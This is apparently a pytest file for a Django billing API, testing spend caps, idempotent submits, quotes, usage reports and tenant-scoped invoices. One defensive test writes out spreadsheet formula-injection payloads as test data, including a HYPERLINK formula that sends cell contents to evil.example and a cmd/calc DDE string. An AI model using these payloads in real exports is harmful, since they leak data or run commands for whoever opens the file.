"""Billing through the HTTP API: 402s, idempotent submits, quotes, usage reports and invoices."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from billing import services as billing
from billing.invoicing import billing_period_close
from generation.models import Task
from tests.billing.conftest import client_for, finish, submit
from tests.billing.test_invoices import AFTER_NOVEMBER, NOVEMBER
from tests.conftest import problem
from tests.factories import ProjectFactory, make_key

pytestmark = pytest.mark.django_db(transaction=True)
D = Decimal


@pytest.fixture
def api(project, small_plan) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {make_key(project)}")
    return client


def test_a_cap_refuses_the_submit_with_402_naming_the_cap(api, project):
    project.monthly_spend_cap = D("0.01")
    project.save()
    assert api.post("/api/v2/task/async", {"text_data": "a boat"}, format="json").status_code == 200
    response = api.post("/api/v2/task/async", {"text_data": "a boat"}, format="json")
    assert response.status_code == 402
    body = problem(response)
    assert body["code"] == "quota_exceeded" and body["cap"] == "project" and body["currency"] == "USD"
    assert Task.unscoped_objects.count() == 1  # nothing written for the refused one


def test_idempotency_key_over_http(api):
    body = {"text_data": "a boat", "options": {"num_images": 2}}
    first = api.post("/api/v2/task/async", body, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    again = api.post("/api/v2/task/async", body, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert first.status_code == again.status_code == 200
    assert again.json()["id"] == first.json()["id"] and again["Idempotent-Replayed"] == "true"
    assert "Idempotent-Replayed" not in first
    conflict = api.post(
        "/api/v2/task/async", {**body, "text_data": "a ship"}, format="json", HTTP_IDEMPOTENCY_KEY="k-1"
    )
    assert conflict.status_code == 409 and problem(conflict)["code"] == "idempotency_conflict"
    too_long = api.post("/api/v2/task/async", body, format="json", HTTP_IDEMPOTENCY_KEY="k" * 256)
    assert too_long.status_code == 400
    assert Task.unscoped_objects.count() == 1


def test_quote_prices_the_request_without_running_it(api, project, client):
    finish(submit(client, num_images=2), delivered=2)
    response = api.post("/api/v2/task/quote", {"text_data": "x", "options": {"num_images": 3}}, format="json")
    assert response.status_code == 200, response.content
    quote = response.json()
    assert quote["currency"] == "USD" and quote["plan"] == "small" and quote["month_images"] == 2
    assert quote["lines"] == [
        {"tier": 1, "images": 1, "unit_price": "0.01000", "amount": "0.01000"},
        {"tier": 2, "images": 2, "unit_price": "0.00500", "amount": "0.01000"},
    ]
    assert quote["amount"] == "0.02000" and quote["hold"] == "0.03000" and quote["admissible"] is True
    assert Task.unscoped_objects.count() == 1  # nothing run, nothing written

    project.monthly_spend_cap = D("0.04")
    project.save()
    quote = api.post("/api/v2/task/quote", {"text_data": "x", "options": {"num_images": 3}}, format="json").json()
    assert quote["admissible"] is False and quote["refusal"]["cap"] == "project"
    assert quote["caps"] == [
        {"cap": "project", "limit": "0.04000", "spent": "0.02000", "pending": "0.00000", "remaining": "0.02000"}
    ]
    bad = api.post("/api/v2/task/quote", {"text_data": "x", "options": {"num_images": 9}}, format="json")
    assert bad.status_code == 400


def test_quote_shows_prepaid_credit(api, client, prepaid):
    billing.credit_grant(tenant=client.tenant, amount=D("0.02"))
    quote = api.post("/api/v2/task/quote", {"text_data": "x", "options": {"num_images": 2}}, format="json").json()
    assert quote["billing_mode"] == "prepaid" and quote["credit_available"] == "0.02000" and quote["admissible"]
    quote = api.post("/api/v2/task/quote", {"text_data": "x", "options": {"num_images": 3}}, format="json").json()
    assert not quote["admissible"] and quote["refusal"]["cap"] == "prepaid_credit"


def test_usage_report_by_day_project_and_end_user_in_json_and_csv(api, project, client):
    other_project = ProjectFactory(tenant=project.tenant)
    finish(submit(client, end_user="alice", num_images=2), delivered=2)
    finish(submit(client_for(other_project), end_user="bob"), delivered=1)
    finish(submit(client_for(ProjectFactory())), delivered=1)  # another tenant: never in this report
    today = timezone.now().date().isoformat()

    by_day = api.get("/api/v2/usage").json()
    assert by_day["rows"] == [{"day": today, "tasks": 2, "images": 3, "amount": "0.03000"}]
    assert by_day["total"] == {"tasks": 2, "images": 3, "amount": "0.03000"} and by_day["currency"] == "USD"
    by_project = api.get("/api/v2/usage", {"group_by": "project"}).json()["rows"]
    assert [(r["project"], r["images"]) for r in by_project] == [(project.public_id, 2), (other_project.public_id, 1)]
    by_user = api.get("/api/v2/usage", {"group_by": "end_user", "from": today, "to": today}).json()["rows"]
    assert [(r["end_user"], r["amount"]) for r in by_user] == [("alice", "0.02000"), ("bob", "0.01000")]

    response = api.get("/api/v2/usage", {"group_by": "end_user", "format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [
        ["end_user", "tasks", "images", "amount"],
        ["alice", "1", "2", "0.02000"],
        ["bob", "1", "1", "0.01000"],
    ]
    assert api.get("/api/v2/usage", HTTP_ACCEPT="text/csv")["Content-Type"].startswith("text/csv")

    for bad in ({"group_by": "week"}, {"from": "yesterday"}, {"from": "2026-02-01", "to": "2026-01-01"}):
        response = api.get("/api/v2/usage", bad)
        assert response.status_code == 400 and problem(response)["code"] == "invalid_request", bad


def test_usage_report_reads_the_rollups_in_constant_queries(api, client, django_assert_max_num_queries):
    for _ in range(5):
        finish(submit(client), delivered=1)
    with django_assert_max_num_queries(8):  # auth, key last-used, report, plan: not one per task
        assert api.get("/api/v2/usage", {"group_by": "project"}).status_code == 200


def test_invoices_list_detail_csv_and_html_for_their_tenant_only(api, project, client, anon):
    finish(submit(client, num_images=2), delivered=2)
    billing_period_close(period=NOVEMBER, issue=False, now=AFTER_NOVEMBER)
    assert api.get("/api/v2/invoices").json() == []  # drafts are the operator's
    billing_period_close(period=NOVEMBER, now=AFTER_NOVEMBER)

    invoices = api.get("/api/v2/invoices").json()
    assert [(i["month"], i["status"], i["total"], i["images"]) for i in invoices] == [
        (f"{NOVEMBER:%Y-%m}", "issued", "0.02000", 2)
    ]
    invoice_id = invoices[0]["id"]
    detail = api.get(f"/api/v2/invoices/{invoice_id}").json()
    assert detail["lines"] == [
        {"project_id": project.public_id, "tier": 1, "unit_price": "0.01000", "images": 2, "amount": "0.02000"}
    ]
    as_csv = api.get(f"/api/v2/invoices/{invoice_id}", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(as_csv.content.decode())))
    assert rows[1] == [str(project.public_id), "1", "0.01000", "2", "0.02000"] and rows[-1][-1] == "0.02000"
    html = api.get(f"/api/v2/invoices/{invoice_id}/html")
    assert html.status_code == 200 and html["Content-Type"].startswith("text/html")
    assert detail["number"] in html.content.decode() and "0.02000" in html.content.decode()

    stranger = APIClient()
    stranger.credentials(HTTP_AUTHORIZATION=f"Token {make_key()}")
    missing = stranger.get("/api/v2/invoices/999999")
    for url in (f"/api/v2/invoices/{invoice_id}", f"/api/v2/invoices/{invoice_id}/html"):
        response = stranger.get(url)
        assert response.status_code == 404 and response.content == missing.content
        assert anon.get(url).status_code == 401
    assert stranger.get("/api/v2/invoices").json() == []


def test_usage_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(api, client):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    for end_user in hostile + ["plain", "1-2"]:
        finish(submit(client, end_user=end_user), delivered=1)
    response = api.get("/api/v2/usage", {"group_by": "end_user", "format": "csv"})
    cells = [row[0] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
    assert sorted(cells) == sorted(["'" + value for value in hostile] + ["plain", "1-2"])
    # The JSON report keeps the values as they are: only spreadsheets run formulas.
    rows = api.get("/api/v2/usage", {"group_by": "end_user"}).json()["rows"]
    assert {row["end_user"] for row in rows} >= set(hostile)


def test_csv_cells_numbers_and_control_characters():
    from billing.api import csv_cell

    assert [csv_cell(v) for v in ("\tx", "\rx", "x=1", "", -1, D("-0.5"))] == ["'\tx", "'\rx", "x=1", "", -1, D("-0.5")]
